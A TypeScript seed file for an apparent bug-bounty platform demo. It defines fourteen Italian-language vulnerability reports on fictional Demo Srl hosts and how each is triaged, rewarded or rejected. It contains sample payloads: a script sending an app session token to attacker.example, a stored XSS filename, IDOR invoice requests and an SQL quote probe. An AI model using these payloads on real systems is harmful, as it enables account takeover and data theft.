/**
 * The demo's reports (demo-data.ts runs them after the programs): fourteen reports on Demo Srl's two
 * active programs, sent by the demo hackers through POST /api/reports and then lived through the
 * action routes by whoever handles them (the platform's triager on the managed "Portale clienti",
 * Demo Srl's team on its self-managed "Area riservata partner"), so that every status of the
 * report tables is on screen: new, triaged, more information, for approval, rewarded, fixed and
 * each rejection. Rewards move the bounty through the ledger and open payment intents; points come
 * from the decisions, as they will for real users.
 *
 * No report breaches a response target: that would need reports submitted days ago, and the API
 * rightly lets nobody set a report's submission time.
 */
import { formatEuro, toCents, type RejectReason, type ReportSeverity, type ReportStatus, type RichTextDoc } from '@bb/domain';
import type { DemoAccountKey } from './demo-accounts.ts';
import { code, doc, h2, ol, p, type Inline } from './demo-content.ts';
import type { DemoUser } from './demo-data.ts';
import { markdownFile, onePagePdf, responsePanePng, type DemoFile } from './demo-files.ts';

type ProgramKey = 'customerPortal' | 'partnerArea';

type Step =
  | { by: DemoAccountKey; action: 'start' | 'fix' }
  | { by: DemoAccountKey; action: 'moreInfo'; message: string }
  | { by: DemoAccountKey; action: 'comment'; text: string; attachment?: DemoFile }
  /** Staff approve a managed program's report with their review: the paragraphs of its PDF. */
  | { by: DemoAccountKey; action: 'approve'; review: string[] }
  | { by: DemoAccountKey; action: 'reward'; amount?: number }
  | { by: DemoAccountKey; action: 'reject'; reason: RejectReason; details: string; duplicateOf?: string }
  /** `vector: null` removes the hacker's vector (an explicit choice the timeline shows). */
  | { by: DemoAccountKey; action: 'changeSeverity'; severity: ReportSeverity; vector: string | null; reason: string }
  | { by: DemoAccountKey; action: 'redeemPoints'; network: 'x' | 'linkedin' };

interface DemoReport {
  /** How later steps (a duplicate) name it. */
  key: string;
  program: ProgramKey;
  /** Who sends it: a hacker, or the triager on the company's behalf for `onBehalfOf`. */
  by: DemoAccountKey;
  onBehalfOf?: string;
  /** The name of a target of the program's scope. */
  target: string;
  title: string;
  /** What the hacker picks; a vector decides it on the server (its score's severity). */
  severity: ReportSeverity;
  vector: string | null;
  content: RichTextDoc;
  endpoint: string | null;
  payload: string | null;
  environment: string;
  ipAddress: string;
  attachment?: DemoFile;
  then: Step[];
  /**
   * Steps taken once every report and payment is in (`takeLastSteps`, demo-data.ts): taking the partner area's last new
   * report in charge reserves what its budget has left, and the budget rule pauses the program.
   */
  lastly?: Step[];
  /** Where it ends (after `lastly`): checked, so a changed workflow stops the seed instead of leaving other data. */
  status: ReportStatus;
}

/** The form's four sections (spec "Report form"): description, proof of concept (numbered steps), impact, mitigation. */
function sections(parts: { description: Inline[][]; proof: Inline[][]; impact: string; mitigation: string }): RichTextDoc {
  return doc(
    h2('Descrizione'),
    ...parts.description.map((paragraph) => p(...paragraph)),
    h2('Proof of Concept'),
    ol(...parts.proof),
    h2('Impatto'),
    p(parts.impact),
    h2('Mitigazione'),
    p(parts.mitigation),
  );
}

/** CVSS 4.0 vectors and their scores (ae-cvss-calculator, FIRST's tables): the severity follows the score. */
const VECTORS = {
  /** 7.1 high: a signed-in user reads what is not theirs. */
  readOthers: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
  /** 7.1 high: reads everything of other partners, changes a little. */
  readWriteOthers: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:L/VA:N/SC:N/SI:N/SA:N',
  /** 5.1 medium: stored XSS run in another user's browser. */
  storedXss: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:P/VC:N/VI:N/VA:N/SC:L/SI:L/SA:N',
  /** 5.1 medium: the victim must open a link. */
  deepLink: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:L/VI:L/VA:N/SC:N/SI:N/SA:N',
  /** 6.9 medium: anonymous listing of files. */
  anonymousRead: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:L/VI:N/VA:N/SC:N/SI:N/SA:N',
  /** 8.7 high: what an SQL injection would be. */
  sqlInjection: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N',
  /** 1.7 low: a disclosure without a known exploit. */
  versionDisclosure: 'CVSS:4.0/AV:N/AC:H/AT:P/PR:N/UI:N/VC:L/VI:N/VA:N/SC:N/SI:N/SA:N/E:U',
  /** 6.0 medium: a session kept or leaked. */
  sessionLeak: 'CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:L/VA:N/SC:N/SI:N/SA:N',
  /** 9.3 critical: a secret that opens another system (the payment gateway). */
  leakedSecret: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:H/SI:H/SA:N',
  /** 1.7 low: the enumeration as Demo Srl scores it (rate limited, no exploit seen). */
  enumerationRated: 'CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:L/VI:N/VA:N/SC:N/SI:N/SA:N/E:U',
  /** 2.1 low: hardening that helps other attacks. */
  missingHeaders: 'CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:A/VC:L/VI:N/VA:N/SC:N/SI:N/SA:N',
} as const;

const PORTAL_WEB = 'portale.demo.example';
const PORTAL_API = 'api.demo.example';
const ANDROID = 'App Android Demo Clienti (it.demosrl.clienti)';
const PARTNER_WEB = 'partner.demo.example';
const PARTNER_API = 'api.demo.example/partner/v2';
const GIULIA_IP = '203.0.113.24';

/** In the order they are sent (a duplicate comes after its original). */
export const DEMO_REPORTS: DemoReport[] = [
  {
    key: 'invoiceIdor',
    program: 'customerPortal',
    by: 'hacker',
    target: PORTAL_API,
    title: "IDOR sulle fatture di altri studi tramite l'API documenti",
    severity: 'high',
    vector: VECTORS.readOthers,
    content: sections({
      description: [
        [
          "L'endpoint ",
          code('GET /v2/invoices/{id}/pdf'),
          " restituisce il PDF di qualunque fattura, anche di studi diversi da quello dell'utente autenticato: il server controlla che la sessione sia valida ma non che la fattura appartenga allo studio della sessione.",
        ],
      ],
      proof: [
        ['Accedere con cliente1@demo.example e aprire una propria fattura: il portale chiama ', code('GET /v2/invoices/10452/pdf'), '.'],
        ["Ripetere la richiesta con l'ID ", code('10451'), ", una fattura dell'account di test studio2@demo.example."],
        ["Il server risponde 200 con il PDF dell'altro studio: intestazione, codice fiscale del cliente e importi."],
      ],
      impact:
        'Gli ID sono sequenziali: qualunque cliente può scaricare tutte le fatture della piattaforma, con i dati personali e fiscali dei clienti degli studi.',
      mitigation:
        "Verificare lato server che la fattura appartenga allo studio della sessione, rispondendo 404 altrimenti, e usare identificativi non prevedibili nell'URL.",
    }),
    endpoint: 'https://api.demo.example/v2/invoices/10451/pdf',
    payload: 'GET /v2/invoices/10451/pdf HTTP/1.1\nHost: api.demo.example\nAuthorization: Bearer <token di cliente1@demo.example>',
    environment: 'Firefox 133 su Ubuntu 24.04, Burp Suite Community 2024.10',
    ipAddress: GIULIA_IP,
    then: [
      { by: 'triager', action: 'start' },
      {
        by: 'triager',
        action: 'moreInfo',
        message:
          "Grazie della segnalazione. Puoi confermare di aver scaricato soltanto la fattura dell'altro account di test e allegare la risposta del server come la vedi nel proxy?",
      },
      {
        by: 'hacker',
        action: 'comment',
        text: "Confermo: ho scaricato solo la fattura 10451 dell'account studio2@demo.example e l'ho cancellata subito dopo. In allegato la risposta del server nel proxy.",
        attachment: responsePanePng('risposta-fattura-10451.png', [180, 150, 196, 120, 168, 90, 140]),
      },
      {
        by: 'companyTriager',
        action: 'comment',
        text: 'Riprodotto anche da noi in staging. Il team backend sta preparando la correzione per il prossimo rilascio.',
      },
      {
        by: 'triager',
        action: 'approve',
        review: [
          'Riprodotto il problema con gli account di test assegnati: il PDF della fattura 10451 (studio2) si scarica con la sessione di cliente1.',
          'Controllo di autorizzazione assente sul solo endpoint del PDF; il dettaglio JSON della fattura risponde correttamente 404.',
          'Severità confermata: alta, CVSS 4.0 7.1 (AV:N/AC:L/AT:N/PR:L/UI:N/VC:H). Ricompensa consigliata: premio pieno del target.',
        ],
      },
      { by: 'companyAdmin', action: 'reward' },
      {
        by: 'companyAdmin',
        action: 'comment',
        text: "Correzione in produzione con la versione 4.18.2: ora l'API risponde 404 sulle fatture degli altri studi. Grazie Giulia!",
      },
      { by: 'companyAdmin', action: 'fix' },
      { by: 'hacker', action: 'comment', text: "Verificato: con l'ID 10451 ora ricevo 404, anche cambiando il formato in JSON." },
      { by: 'hacker', action: 'redeemPoints', network: 'linkedin' },
    ],
    status: 'fixed',
  },
  {
    key: 'documentXss',
    program: 'customerPortal',
    by: 'hacker',
    target: PORTAL_WEB,
    title: 'XSS memorizzata nel nome dei documenti caricati',
    severity: 'medium',
    vector: VECTORS.storedXss,
    content: sections({
      description: [
        [
          "Il nome di un documento caricato nell'area Documenti viene inserito senza codifica nell'anteprima che lo studio vede: uno script nel nome del file viene eseguito nel browser del commercialista che apre la cartella del cliente.",
        ],
      ],
      proof: [
        ['Accedere come cliente1@demo.example e caricare un PDF qualsiasi.'],
        ['Rinominarlo in ', code('<img src=x onerror=alert(document.domain)>.pdf'), '.'],
        ["Accedere come studio2@demo.example e aprire Clienti, Documenti: compare l'alert con il dominio portale.demo.example."],
      ],
      impact:
        'Un cliente esegue codice nella sessione dello studio: può leggere i documenti degli altri clienti dello studio o agire a suo nome. Il cookie di sessione è HttpOnly, quindi non può essere letto direttamente.',
      mitigation: "Codificare il nome del file nell'anteprima (oggi usa innerHTML) e aggiungere una Content-Security-Policy che vieti gli script inline.",
    }),
    endpoint: 'https://portale.demo.example/documenti',
    payload: '<img src=x onerror=alert(document.domain)>.pdf',
    environment: 'Chrome 131 su macOS 15',
    ipAddress: GIULIA_IP,
    attachment: markdownFile(
      'poc-xss-documenti.md',
      '# PoC: XSS nel nome dei documenti\n\n1. Caricare `fattura.pdf` come cliente1@demo.example.\n2. Rinominare in `<img src=x onerror=alert(document.domain)>.pdf`.\n3. Aprire la cartella del cliente come studio2@demo.example.\n\nRisultato: `alert("portale.demo.example")`.\n',
    ),
    then: [
      { by: 'triager', action: 'start' },
      {
        by: 'triager',
        action: 'approve',
        review: [
          "Riprodotto su Chrome 131 e Firefox 133: l'anteprima della cartella cliente esegue lo script contenuto nel nome del file.",
          "Il cookie di sessione è HttpOnly: l'impatto è limitato alle azioni nella sessione dello studio. Severità confermata: media, CVSS 4.0 5.1.",
        ],
      },
    ],
    status: 'forApproval',
  },
  {
    key: 'androidDeepLink',
    program: 'customerPortal',
    by: 'hacker',
    target: ANDROID,
    title: "Deep link dell'app Android apre pagine arbitrarie nella WebView autenticata",
    severity: 'medium',
    vector: VECTORS.deepLink,
    content: sections({
      description: [
        [
          "L'activity che gestisce i link ",
          code('democlienti://apri?url='),
          ' carica nella WebView qualunque URL, anche di domini esterni, e la WebView espone il bridge JavaScript ',
          code('DemoBridge'),
          ' con il token della sessione.',
        ],
      ],
      proof: [
        ["Installare l'app 4.7.0 e accedere con mobile3@demo.example."],
        ["Aprire da un'altra app il link ", code('democlienti://apri?url=https://attacker.example/poc.html'), '.'],
        ['La pagina esterna chiama ', code('DemoBridge.getToken()'), ' e riceve il token di accesso.'],
      ],
      impact: "Basta che la vittima tocchi un link (in una mail o in una chat) perché un sito esterno ottenga il token del suo account nell'app.",
      mitigation: 'Accettare nel deep link solo URL di portale.demo.example e non esporre il bridge JavaScript a pagine di altri domini.',
    }),
    endpoint: 'democlienti://apri?url=https://attacker.example/poc.html',
    payload: '<script>fetch("https://attacker.example/t?" + DemoBridge.getToken())</script>',
    environment: 'Pixel 7 con Android 14, app Demo Clienti 4.7.0 (build 470)',
    ipAddress: GIULIA_IP,
    then: [
      {
        by: 'triager',
        action: 'changeSeverity',
        severity: 'medium',
        vector: null,
        reason:
          "Il vettore descrive un attacco dal browser, ma il bersaglio è l'app Android: lo togliamo e la gravità resta Media finché non riproduciamo la prova sulla versione pubblicata.",
      },
      {
        by: 'triager',
        action: 'moreInfo',
        message:
          "La versione 4.7.0 non risulta ancora pubblicata sul Play Store: puoi indicare da dove l'hai installata e allegare un video della prova sulla versione 4.6.3?",
      },
    ],
    status: 'moreInfo',
  },
  {
    key: 'invoiceIdorAgain',
    program: 'customerPortal',
    by: 'hackerByte',
    target: PORTAL_API,
    title: "Accesso alle fatture di altri clienti cambiando l'ID nell'API",
    severity: 'high',
    vector: VECTORS.readOthers,
    content: sections({
      description: [["Cambiando l'identificativo numerico nella richiesta del PDF di una fattura si ottengono le fatture di altri clienti."]],
      proof: [
        ['Accedere con cliente1@demo.example.'],
        ['Chiamare ', code('GET /v2/invoices/10449/pdf'), '.'],
        ["Il server restituisce il PDF di un'altra fattura."],
      ],
      impact: 'Esposizione dei dati di fatturazione di tutti i clienti del portale.',
      mitigation: 'Controllare a chi appartiene la fattura prima di restituirla.',
    }),
    endpoint: 'https://api.demo.example/v2/invoices/10449/pdf',
    payload: null,
    environment: 'Postman 11 su Windows 11',
    ipAddress: '198.51.100.42',
    then: [
      {
        by: 'triager',
        action: 'reject',
        reason: 'duplicate',
        duplicateOf: 'invoiceIdor',
        details: 'Stesso endpoint e stessa causa di una segnalazione precedente, già presa in carico. Grazie comunque: un duplicato vale 2 punti.',
      },
    ],
    status: 'duplicate',
  },
  {
    key: 'websiteBucket',
    program: 'customerPortal',
    by: 'hackerNull',
    target: PORTAL_WEB,
    title: 'Bucket pubblico con i file del sito istituzionale',
    severity: 'medium',
    vector: VECTORS.anonymousRead,
    content: sections({
      description: [['Il bucket da cui www.demo.example carica immagini e brochure permette a chiunque di elencarne il contenuto, senza autenticazione.']],
      proof: [
        ['Aprire ', code('https://assets.www.demo.example/?list-type=2'), '.'],
        ['La risposta XML elenca 1.284 file, tra cui brochure non ancora pubblicate sul sito.'],
      ],
      impact: "Chiunque può scaricare l'elenco completo dei file, anche di quelli non ancora collegati dal sito.",
      mitigation: 'Togliere agli utenti anonimi il permesso di elencare il contenuto del bucket, lasciando solo la lettura dei singoli file.',
    }),
    endpoint: 'https://assets.www.demo.example/?list-type=2',
    payload: null,
    environment: 'curl 8.5 su Debian 12',
    ipAddress: '198.51.100.83',
    then: [
      {
        by: 'triager',
        action: 'reject',
        reason: 'outOfScope',
        details:
          'Il sito istituzionale www.demo.example e le sue risorse sono fuori dal perimetro del programma (vedi la sezione Fuori scope). Abbiamo comunque girato la segnalazione al team del sito.',
      },
    ],
    status: 'outOfScope',
  },
  {
    key: 'searchSqli',
    program: 'customerPortal',
    by: 'hackerByte',
    target: PORTAL_API,
    title: 'SQL injection nel filtro di ricerca delle fatture',
    severity: 'high',
    vector: VECTORS.sqlInjection,
    content: sections({
      description: [['Il parametro ', code('q'), ' della ricerca fatture sembra finire in una query SQL: con un apice la risposta cambia.']],
      proof: [
        [code("GET /v2/invoices?q=test'"), ' risponde 400.'],
        [code("GET /v2/invoices?q=test'--"), ' risponde 200 con una lista vuota.'],
      ],
      impact: "Se confermata, permetterebbe di leggere e modificare l'intero database delle fatture.",
      mitigation: 'Usare query parametrizzate per tutti i filtri di ricerca.',
    }),
    endpoint: "https://api.demo.example/v2/invoices?q=test'--",
    payload: "test'--",
    environment: 'sqlmap 1.8 e Burp Suite Community su Kali 2024.4',
    ipAddress: '198.51.100.42',
    then: [
      {
        by: 'triager',
        action: 'reject',
        reason: 'invalid',
        details:
          "Il 400 viene dalla validazione del parametro (l'apice non è ammesso), non dal database; con q=test'-- la lista è vuota perché nessuna fattura contiene quel testo. La ricerca usa query parametrizzate e sqlmap non trova iniezioni: non c'è un problema dimostrato.",
      },
    ],
    status: 'invalid',
  },
  {
    key: 'nginxVersion',
    program: 'customerPortal',
    by: 'hackerNull',
    target: PORTAL_WEB,
    title: 'Versione di nginx esposta negli header di risposta',
    severity: 'low',
    vector: VECTORS.versionDisclosure,
    content: sections({
      description: [["Le risposte di portale.demo.example contengono l'header ", code('Server: nginx/1.24.0'), '.']],
      proof: [[code('curl -I https://portale.demo.example/')], ["Nella risposta compare l'header ", code('Server: nginx/1.24.0'), '.']],
      impact: 'Un attaccante può cercare vulnerabilità note proprio di quella versione.',
      mitigation: 'Impostare server_tokens off nella configurazione di nginx.',
    }),
    endpoint: 'https://portale.demo.example/',
    payload: null,
    environment: 'curl 8.5 su Debian 12',
    ipAddress: '198.51.100.83',
    then: [
      {
        by: 'triager',
        action: 'reject',
        reason: 'informative',
        details:
          "Informazione utile ma senza un impatto dimostrato: la 1.24.0 non ha vulnerabilità sfruttabili nella nostra configurazione. L'header è stato comunque nascosto. Una segnalazione informativa vale 1 punto.",
      },
    ],
    status: 'informative',
  },
  {
    key: 'sessionAfterPassword',
    program: 'customerPortal',
    by: 'hackerByte',
    target: PORTAL_WEB,
    title: 'La sessione resta valida dopo il cambio password',
    severity: 'medium',
    vector: VECTORS.sessionLeak,
    content: sections({
      description: [['Dopo il cambio della password dal profilo, le sessioni aperte su altri dispositivi restano attive fino alla loro scadenza, 30 giorni.']],
      proof: [
        ['Accedere con cliente1@demo.example da due browser diversi.'],
        ['Nel primo cambiare la password da Profilo, Sicurezza.'],
        ['Nel secondo il portale continua a funzionare anche 48 ore dopo.'],
      ],
      impact: 'Chi ha rubato una sessione o un dispositivo continua a usarla anche dopo che la vittima ha cambiato la password per difendersi.',
      mitigation: 'Revocare tutte le altre sessioni al cambio della password, o almeno chiedere se farlo.',
    }),
    endpoint: 'https://portale.demo.example/profilo/sicurezza',
    payload: null,
    environment: 'Firefox 133 e Chrome 131 su Windows 11',
    ipAddress: '198.51.100.42',
    then: [],
    status: 'new',
  },
  {
    key: 'paymentKey',
    program: 'customerPortal',
    by: 'triager',
    onBehalfOf: 'volpe_rossa',
    target: ANDROID,
    title: "Chiave API di produzione del gateway di pagamento nell'app Android",
    severity: 'critical',
    vector: VECTORS.leakedSecret,
    content: sections({
      description: [
        [
          "Segnalazione arrivata da volpe_rossa all'indirizzo security@ e riportata qui dal team di triage, così che la ricompensa vada a lui. L'APK 4.6.3 contiene la chiave segreta (non quella pubblicabile) dell'account di produzione del gateway di pagamento.",
        ],
      ],
      proof: [
        ["Scaricare l'APK 4.6.3 dal Play Store e decompilarlo con jadx."],
        ['Il file ', code('res/values/strings.xml'), ' contiene ', code('payment_secret_key'), ' con prefisso ', code('sk_live_'), '.'],
        ["Con quella chiave l'API del gateway elenca i pagamenti dei clienti (verificato solo in lettura, su un pagamento)."],
      ],
      impact: "Chiunque scarichi l'app può leggere i pagamenti di tutti i clienti e disporre rimborsi verso carte a sua scelta.",
      mitigation: 'Revocare subito la chiave, spostare le chiamate al gateway nel backend e controllare nei log del gateway ogni uso non autorizzato.',
    }),
    endpoint: 'res/values/strings.xml (APK 4.6.3)',
    payload: 'payment_secret_key = sk_live_51Hx (troncata)',
    environment: 'jadx 1.5.0 su Windows 11, APK 4.6.3 dal Play Store',
    ipAddress: '198.51.100.17',
    then: [
      {
        by: 'triager',
        action: 'approve',
        review: [
          'Chiave verificata con il team di Demo Srl: era la chiave segreta di produzione, revocata il giorno stesso della segnalazione.',
          'Nei log del gateway nessun uso della chiave da indirizzi estranei a Demo Srl prima della revoca.',
          'Severità critica, CVSS 4.0 9.3: la chiave apre un sistema terzo (SC:H/SI:H). Ricompensa consigliata: premio critico pieno.',
        ],
      },
      { by: 'companyAdmin', action: 'reward' },
      {
        by: 'companyAdmin',
        action: 'comment',
        text: 'Chiave revocata e chiamate spostate nel backend dalla versione 4.6.4. Grazie a volpe_rossa per averci scritto subito.',
      },
    ],
    status: 'rewarded',
  },
  {
    key: 'scannerDump',
    program: 'customerPortal',
    by: 'hackerNull',
    target: PORTAL_WEB,
    title: 'Report automatico dello scanner con 37 vulnerabilità',
    severity: 'critical',
    vector: null,
    content: sections({
      description: [['Risultato della scansione automatica di portale.demo.example: 37 vulnerabilità, di cui 4 critiche. Allego il riepilogo.']],
      proof: [
        ['Cookie without SameSite attribute (12 occorrenze)'],
        ['Clickjacking: X-Frame-Options header missing'],
        ['Possible SQL injection (confidence: tentative)'],
      ],
      impact: 'Critico: il sito è vulnerabile a molti attacchi.',
      mitigation: 'Correggere tutte le vulnerabilità elencate.',
    }),
    endpoint: 'https://portale.demo.example/',
    payload: null,
    environment: 'Scanner automatico',
    ipAddress: '198.51.100.83',
    then: [
      {
        by: 'triager',
        action: 'reject',
        reason: 'spam',
        details:
          "Output di uno scanner senza alcuna verifica né prova: le regole vietano le segnalazioni automatiche in blocco. Altre segnalazioni di questo tipo possono portare alla sospensione dell'account.",
      },
    ],
    status: 'spam',
  },
  {
    key: 'partnerOrders',
    program: 'partnerArea',
    by: 'hacker',
    target: PARTNER_API,
    title: 'Un partner può leggere e annullare gli ordini di un altro partner',
    severity: 'high',
    vector: VECTORS.readWriteOthers,
    content: sections({
      description: [
        [
          "L'API partner v2 controlla il token ma non che l'ordine appartenga al partner del token: si legge il dettaglio degli ordini degli altri rivenditori e con ",
          code('PATCH'),
          ' se ne cambia lo stato.',
        ],
      ],
      proof: [
        ["Accedere con partner-test@demo.example e creare un ordine: riceve l'ID ", code('ORD-2026-00871'), '.'],
        [code('GET /partner/v2/orders/ORD-2026-00870'), " restituisce l'ordine di un altro rivenditore, con cliente finale, prezzi e sconti."],
        [
          code('PATCH /partner/v2/orders/ORD-2026-00871'),
          ' con ',
          code('{"status":"cancelled"}'),
          ' funziona con un token di un altro partner (provato solo sul mio ordine).',
        ],
      ],
      impact: 'Ogni rivenditore vede clienti, prezzi e sconti dei concorrenti e può annullarne gli ordini.',
      mitigation: 'Filtrare ogni lettura e modifica degli ordini per il partner del token.',
    }),
    endpoint: 'https://api.demo.example/partner/v2/orders/ORD-2026-00870',
    payload: 'PATCH /partner/v2/orders/ORD-2026-00871\n{"status":"cancelled"}',
    environment: 'Burp Suite Professional 2024.10, Firefox 133 su Ubuntu 24.04',
    ipAddress: GIULIA_IP,
    then: [
      { by: 'companyTriager', action: 'start' },
      { by: 'companyTriager', action: 'comment', text: "Confermato. Per la PATCH hai usato solo l'ordine che hai creato tu?" },
      { by: 'hacker', action: 'comment', text: "Sì, solo ORD-2026-00871 creato con l'account di prova; degli altri ordini ho letto il dettaglio e basta." },
      { by: 'finance', action: 'reward', amount: 2_000 },
      { by: 'companyTriager', action: 'comment', text: 'Ricompensa portata a 2.000 € per la chiarezza della segnalazione. La correzione è in test.' },
    ],
    status: 'rewarded',
  },
  {
    key: 'resetEnumeration',
    program: 'partnerArea',
    by: 'hacker',
    target: PARTNER_WEB,
    title: 'Enumerazione degli account partner dal modulo di reset password',
    severity: 'medium',
    vector: VECTORS.anonymousRead,
    content: sections({
      description: [["Il modulo di reset della password risponde in modo diverso se l'indirizzo appartiene a un partner registrato."]],
      proof: [
        ['Inviare il modulo con partner-test@demo.example: «Ti abbiamo inviato una e-mail».'],
        ['Inviarlo con nessuno@demo.example: «Indirizzo non registrato».'],
      ],
      impact: "Si ricava l'elenco degli indirizzi dei rivenditori, utile per phishing mirato.",
      mitigation: 'Rispondere con lo stesso messaggio in entrambi i casi.',
    }),
    endpoint: 'https://partner.demo.example/password-reset',
    payload: 'email=nessuno@demo.example',
    environment: 'Firefox 133 su Ubuntu 24.04',
    ipAddress: GIULIA_IP,
    then: [
      { by: 'companyTriager', action: 'start' },
      {
        by: 'companyTriager',
        action: 'changeSeverity',
        severity: 'low',
        vector: VECTORS.enumerationRated,
        reason:
          "Il modulo accetta 5 richieste l'ora per indirizzo IP e l'elenco dei rivenditori autorizzati è già pubblico sul nostro sito: l'impatto è basso. Correggeremo comunque il messaggio.",
      },
    ],
    status: 'triaged',
  },
  {
    key: 'csvToken',
    program: 'partnerArea',
    by: 'hacker',
    target: PARTNER_WEB,
    title: "Token di sessione nella query string dell'export CSV",
    severity: 'medium',
    vector: VECTORS.sessionLeak,
    content: sections({
      description: [
        [
          'Il link «Esporta provvigioni» porta il token di sessione nella query string (',
          code('?token='),
          "), che finisce nella cronologia del browser, nei log dei proxy aziendali e nell'header Referer.",
        ],
      ],
      proof: [
        ['Accedere con partner-test@demo.example e aprire Provvigioni.'],
        ['Il link di export è ', code('https://partner.demo.example/export/provvigioni.csv?token=eyJhbGciOi...'), '.'],
        ["Aprendo quel link in una finestra anonima il CSV si scarica e la sessione resta valida per navigare l'area."],
      ],
      impact: 'Chi legge i log di un proxy o la cronologia di un PC condiviso prende la sessione del partner.',
      mitigation: 'Scaricare con il cookie di sessione, o con un token monouso valido pochi secondi.',
    }),
    endpoint: 'https://partner.demo.example/export/provvigioni.csv',
    payload: null,
    environment: 'Chrome 131 su macOS 15',
    ipAddress: GIULIA_IP,
    then: [],
    lastly: [{ by: 'companyTriager', action: 'start' }],
    status: 'triaged',
  },
  {
    key: 'partnerHeaders',
    program: 'partnerArea',
    by: 'hacker',
    target: PARTNER_WEB,
    title: "Header di sicurezza mancanti nell'area partner",
    severity: 'low',
    vector: VECTORS.missingHeaders,
    content: sections({
      description: [['Le pagine di partner.demo.example non inviano Content-Security-Policy, X-Frame-Options né Strict-Transport-Security.']],
      proof: [[code('curl -I https://partner.demo.example/login')], ['Nessuno dei tre header compare nella risposta.']],
      impact: 'Rende più facile sfruttare altri problemi: clickjacking sul login, XSS senza una CSP a limitarle.',
      mitigation: 'Aggiungere i tre header nella configurazione del server web.',
    }),
    endpoint: 'https://partner.demo.example/login',
    payload: null,
    environment: 'curl 8.5 su Ubuntu 24.04',
    ipAddress: GIULIA_IP,
    then: [
      {
        by: 'companyTriager',
        action: 'reject',
        reason: 'informative',
        details:
          'Grazie: gli header erano già nel piano di hardening di questo trimestre. Senza uno sfruttamento dimostrato la classifichiamo come informativa, che vale 1 punto.',
      },
    ],
    status: 'informative',
  },
];

/** What the seed reads of an action's answer (the report detail). */
/** The report form's fields of a demo report (POST /api/reports), sent as its author would fill them. */
export function reportForm(
  report: Pick<DemoReport, 'title' | 'severity' | 'vector' | 'content' | 'endpoint' | 'payload' | 'environment' | 'ipAddress'>,
  programId: string | undefined,
  target: string,
  media: string[] = [],
) {
  return {
    programId,
    title: report.title,
    target,
    severity: report.severity,
    severityDescription: report.vector,
    content: report.content,
    endpoint: report.endpoint,
    payload: report.payload,
    bugChain: null,
    media,
    environment: report.environment,
    ipAddress: report.ipAddress,
  };
}

interface ReportAnswer {
  id: string;
  status: ReportStatus;
  reward: number | null;
}

/** What the reports need of the seed: each demo user's browser (staff with two-factor) and the programs' ids. */
export interface DemoReportsContext {
  user(key: DemoAccountKey): Promise<DemoUser>;
  programs: ReadonlyMap<string, string>;
}

const richText = (text: string): RichTextDoc => doc(p(text));

/** One step through its route, as `step.by`; answers the report as they now see it. */
async function take(context: DemoReportsContext, report: DemoReport, id: string, ids: ReadonlyMap<string, string>, step: Step): Promise<ReportAnswer> {
  const user = await context.user(step.by);
  const url = `/api/reports/${id}`;
  switch (step.action) {
    case 'start':
    case 'fix':
      return user.post(`${url}/${step.action}`);
    case 'moreInfo':
      return user.post(`${url}/more-info`, { message: step.message });
    case 'comment': {
      const media = step.attachment ? [await user.upload('commentAttachment', step.attachment)] : [];
      return user.post(`${url}/comment`, { content: richText(step.text), media });
    }
    case 'approve': {
      // The triager keeps the hacker's text as it is; the review itself is the PDF.
      const pdf = onePagePdf(`revisione-${report.key}.pdf`, `Revisione: ${report.title}`, step.review);
      const reviewDocument = await user.upload('reviewDocument', pdf);
      const { title, content, vector, payload } = report;
      return user.post(`${url}/approve`, { title, content, severityDescription: vector, payload, bugChain: null, reviewDocument });
    }
    case 'reward':
      return user.post(`${url}/reward`, step.amount === undefined ? {} : { amount: step.amount }, { 'idempotency-key': `demo-reward-${report.key}` });
    case 'reject':
      return user.post(`${url}/reject`, {
        reason: step.reason,
        details: step.details,
        duplicateOf: step.duplicateOf ? ids.get(step.duplicateOf) : null,
      });
    case 'changeSeverity':
      return user.post(`${url}/change-severity`, { severity: step.severity, severityDescription: step.vector, reason: step.reason });
    case 'redeemPoints':
      return user.post(`${url}/redeem-points`, { network: step.network });
  }
}

/** The scope's target ids by program and name, as the company reads its programs. */
async function targetIds(context: DemoReportsContext): Promise<Map<string, string>> {
  const admin = await context.user('companyAdmin');
  const ids = new Map<string, string>();
  for (const program of ['customerPortal', 'partnerArea'] as const) {
    const id = context.programs.get(program);
    if (!id) throw new Error(`demo data: no program ${program}`);
    const { scope } = await admin.get<{ scope: { id: string; name: string | null }[] }>(`/api/programs/${id}`);
    for (const target of scope) ids.set(`${program}/${target.name}`, target.id);
  }
  return ids;
}

/** Sends and handles DEMO_REPORTS; answers the start-up message's line about them. */
export async function seedDemoReports(context: DemoReportsContext): Promise<string> {
  const targets = await targetIds(context);
  const ids = new Map<string, string>();
  const rewards: number[] = [];
  for (const report of DEMO_REPORTS) {
    const author = await context.user(report.by);
    const target = targets.get(`${report.program}/${report.target}`);
    if (!target) throw new Error(`demo data: no target ${report.target} in ${report.program}`);
    const media = report.attachment ? [await author.upload('reportAttachment', report.attachment)] : [];
    let answer = await author.post<ReportAnswer>('/api/reports', {
      ...reportForm(report, context.programs.get(report.program), target, media),
      hacker: report.onBehalfOf ?? null,
    });
    ids.set(report.key, answer.id);
    for (const step of report.then) answer = await take(context, report, answer.id, ids, step);
    if (!report.lastly && answer.status !== report.status) throw new Error(`demo data: report ${report.key} ended ${answer.status}, not ${report.status}`);
    if (answer.reward !== null) rewards.push(answer.reward);
  }
  const statuses = new Set(DEMO_REPORTS.map((report) => report.status)).size;
  const mine = DEMO_REPORTS.filter((report) => report.by === 'hacker').length;
  const paid = rewards.map((euro) => formatEuro(toCents(euro))).join(', ');
  return `Reports: ${DEMO_REPORTS.length} in all ${statuses} statuses on the two active programs, ${mine} of them by demo_hacker, one sent by the triager for volpe_rossa; rewards of ${paid} paid from the budgets (the managed program's after the triager's approval with a review PDF); a duplicate, more information asked (once answered), a severity lowered with its reason, a vector removed`;
}

